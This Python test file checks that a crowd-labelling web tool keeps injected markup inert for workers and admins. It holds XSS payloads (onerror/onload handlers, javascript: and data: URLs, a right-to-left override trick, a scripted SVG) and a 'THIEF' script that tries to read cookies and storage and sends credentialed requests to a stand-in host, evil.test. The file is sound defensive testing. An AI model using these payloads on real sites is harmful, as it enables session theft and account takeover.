"""Names, labels and templates that would run a script if they could, before worker and admin."""

from __future__ import annotations

import pytest
from desk import drawn

from gt_workflow.core.markup import Html, clean_html

SCRIPT = "document.title='owned';parent.document.title='owned';alert(1)"
MARKUP = f'"><img src=x onerror="{SCRIPT}"></script><script>{SCRIPT}</script>'
BACKWARDS = "\u202e</option><svg onload=alert(1)>tac"
INSTRUCTIONS = f"""
<a href="javascript:{SCRIPT}">link</a> <a href="JaVa&#x73;cript:{SCRIPT}">entity</a>
<a href="data:text/html,<script>{SCRIPT}</script>">data</a>
<svg onload="{SCRIPT}"><script>{SCRIPT}</script><use href="data:image/svg+xml,<svg/>"/></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'/>">
<iframe srcdoc="<script>{SCRIPT}</script>"></iframe><object data="javascript:{SCRIPT}"></object>
<form action="javascript:{SCRIPT}"><button>go</button></form>
<math href="javascript:{SCRIPT}">m</math>
<p style="background:url(javascript:{SCRIPT})" onclick="{SCRIPT}">text</p>
{{{{ task.input | to_json }}}}
"""
TEMPLATE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><crowd-bounding-box name="boundingBox" header="{{ task.input.taskObject }}"
  src="{{ task.input.taskObject | grant_read_access }}"
  labels="{{ task.input.labels | to_json | escape }}">
<full-instructions header="How">INSTRUCTIONS</full-instructions>
<short-instructions>INSTRUCTIONS</short-instructions></crowd-bounding-box></crowd-form>"""
# What a template's own script may do: it is its owner's, and still gets at nothing.
THIEF = """<script>
const tried = [];
const attempt = (name, act) => {
  try { tried.push([name, String(act())]); } catch (error) { tried.push([name, error.name]); }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("page", () => parent.document.title);
attempt("address", () => parent.location.href);
attempt("top", () => { top.location.href = "https://evil.test/"; return "gone"; });
attempt("window", () => open("https://evil.test/"));
addEventListener("load", async () => {
  for (const address of ["/_/api/me", "https://evil.test/", "/_/admin"]) {
    const asked = fetch(address, { credentials: "include" });
    tried.push([address, await asked.then(() => "in", () => "out")]);
  }
  document.body.dataset.tried = JSON.stringify(tried);
});
</script>"""


@pytest.fixture
def dialogs():
    """Collect every alert that a seat is shown, from now on."""

    def watch(seat):
        shown: list[str] = []
        seat.page.on("dialog", lambda dialog: (shown.append(dialog.message), dialog.dismiss()))
        return shown

    return watch


def test_names_labels_and_instructions_stay_text(desk, dialogs):
    clean = clean_html(Html(INSTRUCTIONS))
    labels = (MARKUP, BACKWARDS)
    desk.job(TEMPLATE.replace("INSTRUCTIONS", clean), objects=2, labels=labels, title=MARKUP)
    seat = desk.seat()
    shown = dialogs(seat)
    seat.page.goto(desk.address)
    seat.button("Start").click()
    seat.ready()
    assert seat.frame.locator("short-instructions").get_by_text("text", exact=True).count() == 1
    assert seat.frame.locator("svg script, iframe, object, [onload], [onerror]").count() == 0
    for link in seat.frame.locator("a[href]").all():
        assert link.get_attribute("href").startswith("data:")  # no browser goes there from a page
    seat.press("2")
    seat.drag(50, 60, 150, 160)
    seat.submit()
    seat.ready()
    seat.press("1")
    seat.drag(50, 60, 150, 160)
    seat.press("Enter")
    seat.all_done()
    assert [drawn(line)[0][0] for line in desk.output()] == [BACKWARDS, MARKUP]
    admin = desk.seat(desk.link(MARKUP[:60], role="admin").replace("/_/#", "/_/admin#"))
    also = dialogs(admin)
    admin.page.locator(".tile").nth(1).wait_for()
    assert admin.page.locator("img[src=x]").count() == 0
    assert (shown, also) == ([], [])
    assert "owned" not in {seat.page.title(), admin.page.title()}
    assert (seat.faults, admin.faults) == ([], [])


def test_a_templates_own_script_gets_at_nothing_around_it(desk, dialogs):
    desk.job(THIEF + TEMPLATE.replace("INSTRUCTIONS", "none"), objects=1)
    seat = desk.sit_down()
    shown = dialogs(seat)
    body = seat.frame.locator("body[data-tried]")
    body.wait_for()
    tried = dict(body.evaluate("(body) => JSON.parse(body.dataset.tried)"))
    assert tried == {
        "cookie": "SecurityError",
        "storage": "SecurityError",
        "page": "SecurityError",
        "address": "SecurityError",
        "top": "SecurityError",
        "window": "null",
        "/_/api/me": "out",
        "https://evil.test/": "out",
        "/_/admin": "out",
    }
    assert seat.page.url == f"{desk.server.address}/_/"
    assert len(seat.context.pages) == 1
    assert shown == []
    seat.drag(50, 60, 150, 160)
    seat.press("Enter")
    seat.all_done()


def test_an_image_that_is_a_drawing_with_a_script_is_not_shown(desk, dialogs):
    desk.job(objects=2)
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\"/>".encode()
    seat = desk.sit_down()
    shown = dialogs(seat)
    seat.fetched_ahead()
    desk.house.storage.objects["s3://bucket/cats/photo 0.jpg"] = drawing
    link = seat.photograph.get_attribute("src")
    reply = seat.page.request.get(f"{desk.server.address}{link}")
    assert reply.status == 415
    assert SCRIPT.encode() not in reply.body()
    assert shown == []
